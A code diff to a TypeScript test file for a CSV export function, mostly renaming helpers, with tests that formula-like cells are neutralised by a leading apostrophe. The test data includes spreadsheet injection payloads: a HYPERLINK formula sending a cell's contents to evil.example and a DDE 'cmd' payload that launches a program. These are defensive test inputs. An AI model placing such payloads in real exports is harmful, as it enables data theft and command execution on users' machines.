@@ -1,13 +1,13 @@
 import fc from 'fast-check';
 import Papa from 'papaparse';
 import { describe, expect, test } from 'vitest';
-import { csvOf } from './csv';
+import { toCsv } from './csv';
 
-const cellOf = (text: string) => (Papa.parse(csvOf(['A'], [[text]])).data as string[][])[1]?.[0];
+const getCell = (text: string) => (Papa.parse(toCsv(['A'], [[text]])).data as string[][])[1]?.[0];
 
 test('a table is UTF-8 with its mark, quoted where needed, a line each', () => {
   expect(
-    csvOf(
+    toCsv(
       ['Wallet', 'Amount', 'Description'],
       [
         ['Receiving Wallet', '-500.00', 'Package "Alpha", for self'],
@@ -48,13 +48,13 @@ describe('a cell', () => {
     '=HYPERLINK("https://evil.example?"&A1,"x")',
     "=cmd|' /C calc'!A0",
   ])('%j is no formula (T25)', (text) => {
-    expect(cellOf(text)).toBe(`'${text}`);
+    expect(getCell(text)).toBe(`'${text}`);
   });
 
   test.each(['-500.00', '-0.01', '-7', '500', '0.00', 'a=b', '2026-11-20T21:17:05.000Z', "'x", ''])(
     '%j stays as it is',
     (text) => {
-      expect(cellOf(text)).toBe(text);
+      expect(getCell(text)).toBe(text);
     },
   );
 
@@ -64,10 +64,10 @@ describe('a cell', () => {
         // What is no line of its own; the reader alone would drop the mark.
         const rows = [['x', one, other, 'x']];
         const back = (
-          Papa.parse(csvOf(['a', 'b', 'c', 'd'], rows), { newline: '\r\n' }).data as string[][]
+          Papa.parse(toCsv(['a', 'b', 'c', 'd'], rows), { newline: '\r\n' }).data as string[][]
         )[1];
-        for (const [place, text] of [one, other].entries()) {
-          const cell = back?.[place + 1] ?? '';
+        for (const [location, text] of [one, other].entries()) {
+          const cell = back?.[location + 1] ?? '';
           expect([text, `'${text}`]).toContain(cell);
           expect(cell).not.toMatch(/^\s*[=@＝＠＋－]|^\s*[+-](?!\d+(\.\d+)?$)/);
         }
